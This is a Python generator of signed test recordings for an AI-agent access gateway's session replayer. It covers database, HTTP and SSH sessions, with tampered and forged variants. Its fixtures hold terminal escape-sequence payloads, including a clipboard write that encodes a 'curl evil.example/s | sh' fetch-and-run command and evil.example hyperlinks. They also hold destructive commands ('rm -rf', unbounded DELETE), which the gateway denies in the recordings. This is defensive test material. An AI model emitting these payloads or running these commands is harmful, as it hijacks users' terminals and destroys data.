"""Generate the golden recordings of tests/replayer/golden/v1 with the real recorder.

    .venv/bin/python -m tests.replayer.make_golden [OUT_DIR]

Every file is written by ``gateway.recording.RecordingWriter`` with a scripted clock and the
test-only key ``golden/test-key.pem`` (committed, never used outside tests), so a run
reproduces the committed files byte for byte (zstd and Ed25519 are deterministic). The
truncated and tampered files are the PostgreSQL session damaged afterwards, as a crash or an
attacker would.

Record shapes: the PostgreSQL ones are what connectors/postgres/relay.py writes, the
``review_*`` ones what gateway/session.py writes for approvals; ``http_*``, ``term_*`` and
``exec`` are provisional (docs/replayer.md) until the HTTP and SSH connectors land.
"""

from __future__ import annotations

import hashlib
import shutil
import sys
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from cryptography.hazmat.primitives.serialization import (
    Encoding,
    NoEncryption,
    PrivateFormat,
    PublicFormat,
    load_pem_private_key,
)

from gateway.recording import RecordingWriter
from gateway.recording import format as fmt

GOLDEN = Path(__file__).resolve().parent / "golden"
KEY_PATH = GOLDEN / "test-key.pem"
PUBLIC_KEY_PATH = GOLDEN / "test-key.pub.pem"
VERSION_DIR = GOLDEN / f"v{fmt.FORMAT_VERSION}"
STARTED = 1_767_258_000.0  # 2026-01-01 09:00:00 UTC
GATEWAY_VERSION = "0.1.0"

FILES = {
    "postgres": "20260101T090000.000000Z_golden-pg-0001.wgrec",
    "http": "20260101T093000.000000Z_golden-http-0001.wgrec",
    "ssh": "20260101T100000.000000Z_golden-ssh-0001.wgrec",
    "hostile": "20260101T103000.000000Z_golden-hostile-0001.wgrec",
    "truncated": "20260101T110000.000000Z_golden-pg-crash.wgrec",
    "tampered": "20260101T113000.000000Z_golden-pg-tampered.wgrec",
    "forged": "20260101T120000.000000Z_golden-pg-forged.wgrec",
}


def signing_key() -> Ed25519PrivateKey:
    if KEY_PATH.exists():
        loaded = load_pem_private_key(KEY_PATH.read_bytes(), password=None)
        assert isinstance(loaded, Ed25519PrivateKey)
        return loaded
    seed = hashlib.sha256(b"wardgate replayer golden test key (test only)").digest()
    return Ed25519PrivateKey.from_private_bytes(seed)


def write_key_files(key: Ed25519PrivateKey) -> None:
    GOLDEN.mkdir(parents=True, exist_ok=True)
    KEY_PATH.write_bytes(key.private_bytes(Encoding.PEM, PrivateFormat.PKCS8, NoEncryption()))
    PUBLIC_KEY_PATH.write_bytes(
        key.public_key().public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)
    )


class Script:
    """A clock the generator moves by hand, so record times are exact."""

    def __init__(self) -> None:
        self.now = 0.0

    def __call__(self) -> float:
        return self.now


class ScriptedWriter:
    """A RecordingWriter whose clock the generator sets before each record."""

    def __init__(self, path: Path, header: dict[str, Any], key: Ed25519PrivateKey) -> None:
        self.clock = Script()
        self.writer = RecordingWriter.create(path, header, key, clock=self.clock)

    def at(self, t: float, kind: str, payload: Any) -> None:
        self.clock.now = t
        self.writer.record(kind, payload)
        # The gateway flushes after every decision and each second: one frame per step here.
        self.writer.flush()

    def close(self, t: float, end: dict[str, Any]) -> None:
        self.clock.now = t
        self.writer.close(end)


def _header(session_id: str, offset: float, protocol: str, **extra: Any) -> dict[str, Any]:
    return {
        "session_id": session_id,
        "started": STARTED + offset,
        "gateway_version": GATEWAY_VERSION,
        "protocol": protocol,
        **extra,
    }


def _iso(seconds_after_start: float) -> str:
    """Wall-clock times as the approvals code records them (gateway/approvals/models.py)."""
    moment = datetime.fromtimestamp(STARTED + seconds_after_start, UTC)
    return moment.isoformat().replace("+00:00", "Z")


def _decision(action: str, rule: str, reason: str) -> dict[str, str]:
    return {"action": action, "rule": rule, "reason": reason}


def _command(text: str, kinds: list[str], categories: list[str], objects: list[str],
             flags: list[str] | None = None) -> dict[str, Any]:
    return {"protocol": "postgres", "text": text, "kinds": kinds, "categories": categories,
            "objects": objects, "flags": flags or []}


AGENT = {
    "sub": "agent-claude",
    "groups": ["ai-agents", "oncall"],
    "iss": "https://wardgate.local/embedded",
    "exp": 1_767_259_800,
    "method": "jwt",
}


def postgres_session(path: Path, key: Ed25519PrivateKey, session_id: str = "golden-pg-0001",
                     *, offset: float = 0.0, close: bool = True) -> RecordingWriter:
    header = _header(
        session_id, offset, "postgres",
        identity=AGENT,
        target={"name": "pg-prod", "protocol": "postgres", "address": "db.internal:5432",
                "database": "shop", "user": "app_reader"},
        peer="127.0.0.1:51234",
        client={"user": "agent-claude", "application_name": "psql", "tls": True,
                "dropped_parameters": []},
        result_row_cap=100,
    )
    w = ScriptedWriter(path, header, key)
    at = w.at
    sql = "SELECT id, email, card_number FROM customers ORDER BY id LIMIT 3"
    at(0.412, "query", {
        "sql": sql, "protocol": "simple",
        "decision": _decision("allow", "agents-read", "ai-agents may read pg-prod"),
        "commands": [_command(sql, ["select"], ["read"], ["customers"])],
    })
    at(0.437, "result", {
        "columns": ["id", "email", "card_number"],
        "rows": [["1", "a****@example.com", "****-****-****-1111"],
                 ["2", "b****@example.com", "****-****-****-4242"],
                 ["3", "c****@example.org", None]],
        "row_count": 3, "rows_recorded": 3, "row_cap": 100, "masked_rows": 3,
        "nulled_binary_values": 0, "tag": "SELECT 3",
    })
    sql = "DELETE FROM orders"
    at(2.105, "query", {
        "sql": sql, "protocol": "simple",
        "decision": _decision("deny", "no-unbounded-writes",
                              "DELETE without WHERE is never allowed"),
        "commands": [_command(sql, ["delete"], ["write"], ["orders"], ["no_where"])],
    })
    # A write held for approval (gateway/session.py): the review is recorded while the agent
    # waits, and the statement, with its final decision, once a human has decided.
    sql = "UPDATE orders SET status = $1 WHERE id = $2"
    at(5.020, "review_requested", {
        "review": "rv-7f3a", "rule": "writes-need-approval",
        "reason": "writes on pg-prod need a human", "sql": sql, "params": ["refunded", 1042],
        "fingerprint": hashlib.sha256(b"golden rv-7f3a").hexdigest(), "min_approvals": 1,
        "approver_groups": ["dba"], "expires_at": _iso(offset + 305.020),
    })
    at(41.300, "review_approved", {
        "review": "rv-7f3a",
        "approvers": [{"subject": "bob@example.com", "at": _iso(offset + 41.3),
                       "reason": "refund ticket OPS-1289"}],
        "decided_at": _iso(offset + 41.3),
    })
    at(41.301, "query", {
        "sql": sql, "protocol": "extended", "statement": "s1", "params": ["refunded", 1042],
        "commands": [_command(sql, ["update"], ["write"], ["orders"])],
        "decision": _decision("allow", "writes-need-approval",
                              "approved in review rv-7f3a by bob@example.com"),
    })
    at(41.322, "result", {"columns": [], "rows": [], "row_count": 0, "rows_recorded": 0,
                          "row_cap": 100, "masked_rows": 0, "nulled_binary_values": 0,
                          "tag": "UPDATE 1"})
    sql = "SELECT * FROM order_archive"
    at(44.010, "query", {
        "sql": sql, "protocol": "simple",
        "decision": _decision("allow", "agents-read", "ai-agents may read pg-prod"),
        "commands": [_command(sql, ["select"], ["read"], ["order_archive"])],
    })
    at(44.018, "error", {"sqlstate": "42P01",
                         "message": 'relation "order_archive" does not exist'})
    sql = "DELETE FROM orders WHERE id = 7"
    at(45.000, "review_requested", {
        "review": "rv-81c2", "rule": "writes-need-approval",
        "reason": "writes on pg-prod need a human", "sql": sql, "params": [],
        "fingerprint": hashlib.sha256(b"golden rv-81c2").hexdigest(), "min_approvals": 1,
        "approver_groups": ["dba"], "expires_at": _iso(offset + 345.0),
    })
    at(46.900, "review_denied", {"review": "rv-81c2", "by": "carol@example.com",
                                 "at": _iso(offset + 46.9),
                                 "reason": "orders are never deleted, cancel it instead"})
    at(46.901, "query", {
        "sql": sql, "protocol": "simple",
        "commands": [_command(sql, ["delete"], ["write"], ["orders"])],
        "decision": _decision("deny", "writes-need-approval",
                              "review rv-81c2 was denied by carol@example.com: orders are "
                              "never deleted, cancel it instead"),
    })
    sql = "SELECT n, md5(n::text) FROM generate_series(1, 250) AS n"
    at(47.500, "query", {
        "sql": sql, "protocol": "simple",
        "decision": _decision("allow", "agents-read", "ai-agents may read pg-prod"),
        "commands": [_command(sql, ["select"], ["read"], [])],
    })
    rows = [[str(n), hashlib.md5(str(n).encode()).hexdigest()] for n in range(1, 101)]
    at(47.561, "result", {"columns": ["n", "md5"], "rows": rows, "row_count": 250,
                          "rows_recorded": 100, "row_cap": 100, "masked_rows": 0,
                          "nulled_binary_values": 0, "tag": "SELECT 250"})
    at(52.000, "disconnect", {"reason": "client terminated"})
    if close:
        w.close(52.001, {"reason": "closed", "commands": 6, "denied": 2})
    return w.writer


def http_session(path: Path, key: Ed25519PrivateKey) -> None:
    header = _header(
        "golden-http-0001", 1800.0, "http",
        identity={**AGENT, "sub": "agent-deploybot", "groups": ["ai-agents"]},
        target={"name": "billing-api", "protocol": "http", "address": "billing.internal:443",
                "database": None, "user": None},
        peer="127.0.0.1:52811",
        client={"user_agent": "httpx/0.28"},
    )
    w = ScriptedWriter(path, header, key)
    at = w.at
    at(0.120, "http_request", {
        "method": "GET", "target": "/v1/invoices?customer=42&limit=2",
        "headers": [["host", "billing.internal"], ["accept", "application/json"],
                    ["authorization", "****"]],
        "body": b"", "body_size": 0, "body_truncated": False,
        "decision": _decision("allow", "agents-read-billing", "GET is read-only"),
    })
    body = (b'{"invoices":[{"id":"inv_1","amount":1200,"currency":"EUR","card":'
            b'"****-****-****-4242"},{"id":"inv_2","amount":80,"currency":"EUR",'
            b'"card":"****-****-****-1111"}],"next":null}')
    at(0.305, "http_response", {
        "status": 200, "reason": "OK",
        "headers": [["content-type", "application/json"], ["content-length", str(len(body))]],
        "body": body, "body_size": len(body), "body_truncated": False,
    })
    at(3.000, "http_request", {
        "method": "POST", "target": "/v1/refunds",
        "headers": [["host", "billing.internal"], ["content-type", "application/json"]],
        "body": b'{"invoice":"inv_1","amount":1200}', "body_size": 33, "body_truncated": False,
        "decision": _decision("deny", "no-agent-refunds", "refunds need a human"),
    })
    denial = b'{"error":"denied","rule":"no-agent-refunds","reason":"refunds need a human"}'
    at(3.001, "http_response", {
        "status": 403, "reason": "Forbidden",
        "headers": [["content-type", "application/json"]],
        "body": denial, "body_size": len(denial), "body_truncated": False,
    })
    at(6.500, "http_request", {
        "method": "GET", "target": "/status",
        "headers": [["host", "billing.internal"]],
        "body": b"", "body_size": 0, "body_truncated": False,
        "decision": _decision("allow", "agents-read-billing", "GET is read-only"),
    })
    page = b"<html><body>" + b"<p>ok</p>" * 2000 + b"</body></html>"
    at(6.650, "http_response", {
        "status": 200, "reason": "OK", "headers": [["content-type", "text/html"]],
        "body": page[:4096], "body_size": len(page), "body_truncated": True,
    })
    w.close(9.0, {"reason": "closed", "commands": 3, "denied": 1})


# What an attacker-controlled host might print to attack the auditor's terminal.
HOSTILE_OUTPUT = (
    b"\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUvcyB8IHNo\x07"  # OSC 52: set the clipboard
    b"\x1b]0;pwned-title\x07"  # OSC 0: window title
    b"\x1b]8;;https://evil.example/\x1b\\click-me\x1b]8;;\x1b\\"  # OSC 8 hyperlink
    b"\x1b[6n"  # DSR: the terminal would type back the cursor position
    b"\x1b[21t"  # report the window title as typed input
    b"\x1bP$qm\x1b\\"  # DCS DECRQSS request
    b"\x1b[?1000h"  # mouse reporting
    b"\x1bZ"  # DECID
    b"\xc2\x9b31mC1-CSI-red\xc2\x9b0m"  # C1 CSI encoded as UTF-8
    b"\x9b" b"raw-8bit"  # a lone C1 byte (invalid UTF-8)
    b"[bold red]not-markup[/] \xe2\x80\xaeesrever\r\n"  # Rich markup and a bidi override
    b"\x1b"  # a raw ESC at the end of a record
)


def ssh_session(path: Path, key: Ed25519PrivateKey) -> None:
    header = _header(
        "golden-ssh-0001", 3600.0, "ssh",
        identity={**AGENT, "sub": "agent-opsbot", "groups": ["ai-agents", "ops"]},
        target={"name": "web-1", "protocol": "ssh", "address": "web-1.internal:22",
                "database": None, "user": "deploy"},
        peer="127.0.0.1:40022",
        client={"client_version": "SSH-2.0-OpenSSH_9.6"},
    )
    w = ScriptedWriter(path, header, key)
    at = w.at
    at(0.010, "term_size", {"cols": 80, "rows": 24})
    at(0.050, "term_output", {"data": b"Welcome to \x1b[1mweb-1\x1b[0m (Debian 13)\r\n"
                                      b"\x1b[32mdeploy@web-1\x1b[0m:\x1b[34m~\x1b[0m$ "})
    at(1.200, "term_input", {"data": b"ls -l /var/www\r"})
    at(1.201, "exec", {"command": "ls -l /var/www",
                       "decision": _decision("allow", "ops-read", "listing is read-only")})
    at(1.250, "term_output", {"data": b"ls -l /var/www\r\n"
                                      b"total 8\r\n"
                                      b"drwxr-xr-x 2 deploy deploy 4096 Jan  1 08:00 "
                                      b"\x1b[01;34mhtml\x1b[0m\r\n"
                                      b"-rw-r--r-- 1 deploy deploy  220 Jan  1 08:00 "
                                      b"index.txt\r\n"
                                      b"\x1b[32mdeploy@web-1\x1b[0m:\x1b[34m~\x1b[0m$ "})
    at(4.000, "term_input", {"data": b"cat notes.txt\r"})
    at(4.001, "exec", {"command": "cat notes.txt",
                       "decision": _decision("allow", "ops-read", "reading is allowed")})
    at(4.100, "term_output", {"data": b"cat notes.txt\r\n" + HOSTILE_OUTPUT})
    at(4.101, "term_output", {"data": b"[0m\r\n\x1b[32mdeploy@web-1\x1b[0m:\x1b[34m~\x1b[0m$ "})
    at(7.000, "term_input", {"data": b"rm -rf /var/www/html\r"})
    at(7.001, "exec", {"command": "rm -rf /var/www/html",
                       "decision": _decision("deny", "no-recursive-delete",
                                             "rm -r on web hosts needs approval")})
    at(7.050, "term_output", {"data": b"rm -rf /var/www/html\r\n"
                                      b"\x1b[31mwardgate: denied by rule no-recursive-delete"
                                      b"\x1b[0m\r\n"
                                      b"\x1b[32mdeploy@web-1\x1b[0m:\x1b[34m~\x1b[0m$ "})
    at(9.500, "term_size", {"cols": 100, "rows": 30})
    at(12.000, "term_input", {"data": b"exit\r"})
    at(12.050, "term_output", {"data": b"exit\r\nlogout\r\n"})
    at(12.100, "disconnect", {"reason": "client closed the channel"})
    w.close(12.101, {"reason": "closed", "commands": 3, "denied": 1})


ESC_TEXT = "\x1b]52;c;ZXZpbA==\x07\x1b[2J\x1b]0;title\x07"


def hostile_session(path: Path, key: Ed25519PrivateKey) -> None:
    """Hostile values in every field the UI shows, and payloads of the wrong shape."""
    header = _header(
        "golden-hostile-0001", 5400.0, "postgres",
        identity={"sub": f"mallory{ESC_TEXT}[bold red]root[/]\u202eevil",
                  "groups": [f"admins{ESC_TEXT}", "[link=https://evil.example]x[/link]"],
                  "iss": "https://evil.example", "exp": 1, "method": "jwt"},
        target={"name": f"pg{ESC_TEXT}prod", "protocol": "postgres",
                "address": "\x1b[6n:5432", "database": "x" * 5000, "user": None},
        peer="\x1b]8;;https://evil.example/\x07peer\x1b]8;;\x07",
        client={"application_name": "\x9b6n"},
    )
    w = ScriptedWriter(path, header, key)
    at = w.at
    sql = f"SELECT '{ESC_TEXT}' AS a, '[red]markup[/red]' AS b -- \u202e)"
    at(0.5, "query", {"sql": sql, "protocol": "simple",
                      "decision": _decision("allow", f"rule{ESC_TEXT}", f"why{ESC_TEXT}"),
                      "commands": []})
    at(0.6, "result", {"columns": [f"col{ESC_TEXT}", "[b]x[/b]"],
                       "rows": [[ESC_TEXT, "[blink]y[/blink]"], ["z" * 300_000, None],
                                "not-a-row", [b"\x1b[31mbytes\x1b[0m", 12, 3.5, True]],
                       "row_count": "many", "masked_rows": -1, "tag": f"SELECT{ESC_TEXT}"})
    big = "SELECT " + ("'\x1b[5m0123456789' || " * 60_000) + "1"  # ~1.4 MB statement
    at(1.0, "query", {"sql": big, "protocol": "simple",
                      "decision": _decision("deny", "too-long", "statement over the size cap")})
    at(1.5, "query", {"sql": b"\x1b]52;c;Ynl0ZXM=\x07bytes-sql", "decision": "allow"})
    at(2.0, "query", ["not", "a", "map"])
    at(2.5, "error", {"sqlstate": ESC_TEXT, "message": f"boom{ESC_TEXT}"})
    nested: Any = "leaf\x1b[31m"
    for _ in range(15):  # 30 levels: within the format's 32
        nested = {"k\x1b": [nested]}
    at(3.0, "mystery\x1b[31m", nested)
    at(3.5, "http_response", {"status": "200", "headers": "nope",
                              "body": b'{"a": "\\u001b]52;c;eA==\\u0007"}'})
    at(4.0, "term_output", {"data": 12345})
    w.close(5.0, {"reason": ESC_TEXT, "commands": "x"})


def _frame_spans(data: bytes) -> list[tuple[int, int]]:
    spans = []
    offset = len(fmt.MAGIC)
    while offset < len(data):
        _type, length, _crc = fmt.FRAME_HEADER.unpack_from(data, offset)
        end = offset + fmt.FRAME_HEADER.size + length + fmt.CHAIN_SIZE
        spans.append((offset, end))
        offset = end
    return spans


def generate(out: Path) -> dict[str, Path]:
    key = signing_key()
    if not KEY_PATH.exists():
        write_key_files(key)
    out.mkdir(parents=True, exist_ok=True)
    paths = {name: out / filename for name, filename in FILES.items()}
    for path in paths.values():
        path.unlink(missing_ok=True)
    postgres_session(paths["postgres"], key)
    http_session(paths["http"], key)
    ssh_session(paths["ssh"], key)
    hostile_session(paths["hostile"], key)

    # A crash: the writer is never closed, and the last frame is cut in half.
    postgres_session(paths["truncated"], key, "golden-pg-crash", offset=7200.0, close=False)
    data = paths["truncated"].read_bytes()
    start, end = _frame_spans(data)[-1]
    paths["truncated"].write_bytes(data[: (start + end) // 2])

    # An edit after the fact: one byte of frame 4 (the denied DELETE's neighbour) changed.
    postgres_session(paths["tampered"], key, "golden-pg-tampered", offset=9000.0)
    damaged = bytearray(paths["tampered"].read_bytes())
    start, end = _frame_spans(bytes(damaged))[4]
    damaged[(start + end) // 2] ^= 0x01
    paths["tampered"].write_bytes(bytes(damaged))

    # Well formed, chained and sealed, but by a key that is not the gateway's.
    other = Ed25519PrivateKey.from_private_bytes(hashlib.sha256(b"not the gateway").digest())
    postgres_session(paths["forged"], other, "golden-pg-forged", offset=10800.0)
    for path in paths.values():
        path.chmod(0o644)
    return paths


def main(argv: list[str]) -> int:
    out = Path(argv[0]) if argv else VERSION_DIR
    if out == VERSION_DIR and VERSION_DIR.exists():
        shutil.rmtree(VERSION_DIR)
    for name, path in generate(out).items():
        print(f"{name:10} {path.stat().st_size:8} {path}")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
